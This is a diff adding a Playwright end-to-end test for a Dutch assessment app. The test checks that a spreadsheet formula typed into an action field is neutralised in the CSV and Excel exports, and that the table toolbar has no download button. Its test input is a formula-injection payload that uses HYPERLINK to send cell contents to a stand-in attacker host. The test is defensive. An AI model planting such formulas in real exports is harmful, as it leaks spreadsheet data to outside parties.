@@ -1,0 +1,56 @@
+"""In a real browser: a formula typed into an action is shown as typed, comes out neutralised
+in the plan's CSV and Excel downloads, and the table toolbar offers no download of its own
+(``client.disableDataExport``), while its search still works."""
+
+from __future__ import annotations
+
+import csv
+import io
+
+import openpyxl
+import pytest
+from playwright.sync_api import expect
+
+from assessment.exports import DANGEROUS_STARTS
+from assessment.organisations import create_organisation
+
+from .support import assert_no_exception, click_button, goto, main, nav, settle
+
+pytestmark = pytest.mark.e2e
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Klik hier")'
+
+
+def download(page, label: str) -> bytes:
+    with page.expect_download() as info:
+        main(page).get_by_role("button", name=label).click()
+    return open(info.value.path(), "rb").read()
+
+
+def test_typed_formula_neutralised_and_no_toolbar_download(server, new_page):
+    create_organisation("Formule BV", "C", "10", 20, ["Atelier"], db_path=server.db_path)
+    page = new_page()
+    goto(page, server.url)
+    nav(page, "Actieplan")
+    main(page).get_by_label("Actie", exact=True).fill(FORMULA)
+    main(page).get_by_label("Verantwoordelijke").fill("@Els")
+    click_button(page, "Actie toevoegen")
+    settle(page)
+    assert_no_exception(page)
+
+    table = main(page).get_by_test_id("stDataFrame")
+    expect(table).to_have_count(1)
+    table.hover()
+    toolbar = page.get_by_test_id("stElementToolbar").first
+    expect(toolbar.get_by_role("button", name="Search")).to_be_visible()
+    expect(page.get_by_role("button", name="Download as CSV")).to_have_count(0)
+
+    rows = list(csv.reader(io.StringIO(download(page, "Plan downloaden (CSV)")
+                                       .decode("utf-8-sig"))))
+    assert rows[1][:2] == ["'" + FORMULA, "'@Els"]
+    assert not any(v.startswith(DANGEROUS_STARTS) for row in rows for v in row)
+    sheet = openpyxl.load_workbook(io.BytesIO(download(page, "Plan downloaden (Excel)"))).active
+    cells = [c for row in sheet.iter_rows() for c in row]
+    assert "'" + FORMULA in [c.value for c in cells]
+    assert not any(c.data_type == "f" or str(c.value or "").startswith(DANGEROUS_STARTS)
+                   for c in cells)
